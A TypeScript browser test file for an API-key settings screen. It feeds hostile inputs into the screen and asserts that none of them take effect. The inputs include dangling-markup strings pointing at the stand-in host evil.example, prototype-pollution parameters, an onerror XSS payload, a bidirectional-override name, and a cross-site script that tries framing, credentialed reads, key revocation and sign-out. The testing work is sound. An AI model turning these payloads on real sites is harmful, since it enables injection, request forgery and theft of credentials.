import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import { keyNames, openCreate, row, showDetails } from '../browser/support/screen.js';
import { putKeys } from '../browser/support/rows.js';
import { Stage } from '../browser/support/stage.js';
import { newOwner } from '../support/callers/owners.js';

/** Names that every object in JavaScript has. */
const INHERITED = ['constructor', '__proto__', 'toString', 'hasOwnProperty'];
/** Unclosed, so that the text after it would become part of an attribute, a style, a comment or a text field. */
const DANGLING = [`<img src='//evil.example/?`, '<style>', '<textarea>', '<base href="//evil.example/">'];

let stage: Stage;
beforeAll(async () => {
  stage = await Stage.start();
});
afterEach(() => stage.clear());
afterAll(() => stage.stop());

describe('names that somebody chose', () => {
  test('pollute no object and leave the markup as it is', async () => {
    const permissions = ['constructor:read', 'toString:write', 'hasOwnProperty:write', 'systems:read'];
    const owner = await newOwner(stage.service, { displayName: DANGLING[0]!, permissions });
    for (const names of [INHERITED, DANGLING]) {
      const keys = [];
      for (const name of names)
        keys.push(await owner.person.newKey({ name, note: name, permissions: permissions.slice(0, 3) }));
      // A request to another site is an error, too.
      const { page } = await stage.open({ owner });
      await row(page, names[0]!).waitFor();
      expect((await keyNames(page)).sort()).toEqual([...names].sort());
      await (await showDetails(page, names[0]!)).getByText('Write hasOwnProperty').waitFor();
      await page.keyboard.press('Escape');
      await (await openCreate(page)).getByText('Read-only').first().waitFor();
      await page.keyboard.press('Escape');
      await page.goto(`${stage.service.url}/settings/api-keys?tab=activity&events=constructor&__proto__[polluted]=1`);
      for (const name of names) await page.getByText(`Key ${name} was created`).waitFor();
      const odd = `[typeof {}.polluted, Object.keys(Object.prototype), document.querySelectorAll('base, img, textarea').length]`;
      expect(await page.evaluate<unknown[]>(odd)).toEqual(['undefined', [], 0]);
      for (const { apiKey } of keys) await owner.person.revoke(apiKey.id);
    }
  });
});

/** A page that sends a person's browser to Latchkey while they are signed in there. */
describe('a page of somebody else', () => {
  let server: Server;
  let origin: string;
  beforeAll(async () => {
    server = createServer({ keepAliveTimeout: 0 }, (_, response) =>
      response.setHeader('content-type', 'text/html').end('<!doctype html><title>Hello</title>'),
    );
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    // Another site than 127.0.0.1, where the service is.
    origin = `http://localhost:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => void server.close());

  test('neither frames the screen, nor reads it in a window, nor changes or reads anything', async () => {
    const owner = await stage.newOwner();
    const { apiKey } = await owner.person.newKey({ name: 'CI deploy' });
    const { url } = stage.service;
    const context = await stage.browser.newContext();
    await context.addCookies([stage.cookieOf(owner)]);
    const page = await context.newPage();
    await page.goto(origin);
    const tries = await page.evaluate<Record<string, unknown>>(`(async () => {
      const [url, id] = ${JSON.stringify([url, apiKey.id])};
      const outcome = (promise) => promise.then((answer) => answer.type + ' ' + answer.status, () => 'failed');
      const loaded = (tag, path) => new Promise((resolve) => {
        const node = Object.assign(document.createElement(tag), { src: url + path, onload: () => resolve('loaded'), onerror: () => resolve('failed') });
        document.head.append(node);
      });
      const credentials = 'include';
      const frame = Object.assign(document.createElement('iframe'), { src: url + '/settings/api-keys' });
      await new Promise((resolve) => { frame.onload = resolve; document.body.append(frame); });
      const opened = window.open(url + '/settings/api-keys', 'screen');
      const form = Object.assign(document.createElement('form'), {
        method: 'POST', enctype: 'text/plain', action: url + '/v1/api-keys/' + id + '/revoke', target: 'nowhere' });
      form.append(Object.assign(document.createElement('input'), { name: '{"a":"', value: '"}' }));
      document.body.append(form);
      form.submit();
      const seen = (read) => { try { return String(read()); } catch { return 'refused'; } };
      return {
        framed: seen(() => frame.contentDocument && frame.contentDocument.title),
        window: seen(() => opened.document.title),
        read: await outcome(fetch(url + '/v1/api-keys', { credentials })),
        revoke: await outcome(fetch(url + '/v1/api-keys/' + id + '/revoke', { method: 'POST', credentials })),
        blind: await outcome(fetch(url + '/v1/api-keys/' + id + '/revoke', { method: 'POST', mode: 'no-cors', credentials })),
        script: await loaded('script', '/v1/api-keys'),
        signOut: await outcome(fetch(url + '/v1/session', { method: 'DELETE', credentials })),
      };
    })()`);
    expect(tries).toEqual({
      framed: 'null',
      window: expect.stringMatching(/^(refused|)$/),
      read: 'failed',
      revoke: 'failed',
      blind: 'failed',
      script: 'failed',
      signOut: 'failed',
    });
    const frame = page.frames().find((each) => each.url().includes('chrome-error'));
    expect(frame).toBeDefined();
    await context.close();
    expect((await owner.person.list()).items).toMatchObject([{ id: apiKey.id, status: 'active' }]);
    expect((await owner.person.events()).items.map(({ type }) => type)).toEqual(['api_key.created']);
  });
});

describe('the settings screen', () => {
  const MARKUP = '<img src=x onerror=document.title=1>';
  const OVERRIDE = 'turned \u202Edekover';

  test('shows a name as text: markup is not run, and an override does not affect the text around it', async () => {
    const owner = await stage.newOwner();
    await putKeys(stage.service, owner, [
      { name: OVERRIDE, createdDaysAgo: 80, expiresInDays: 3.5 },
      { name: MARKUP, createdDaysAgo: 81 },
    ]);
    const { page } = await stage.open({ owner });
    const title = await page.title();
    await page.getByText(MARKUP).waitFor();
    expect(await keyNames(page)).toEqual([OVERRIDE, MARKUP]);
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    expect(await page.title()).toBe(title);

    // The positions of letters in the sentence after the name: still from left to right.
    const sentence = page.getByRole('listitem').filter({ hasText: OVERRIDE }).getByText('expires in 3 days');
    const lefts = await sentence.evaluate((node) => {
      const texts = node.ownerDocument.createTreeWalker(node, 4);
      let after = texts.nextNode()!;
      while (!after.nodeValue!.includes('expires')) after = texts.nextNode()!;
      const start = after.nodeValue!.indexOf('expires');
      return [0, 3, 6].map((at) => {
        const range = node.ownerDocument.createRange();
        range.setStart(after, start + at);
        range.setEnd(after, start + at + 1);
        return range.getBoundingClientRect().left;
      });
    });
    expect(lefts).toEqual([...lefts].sort((a, b) => a - b));
  });
});
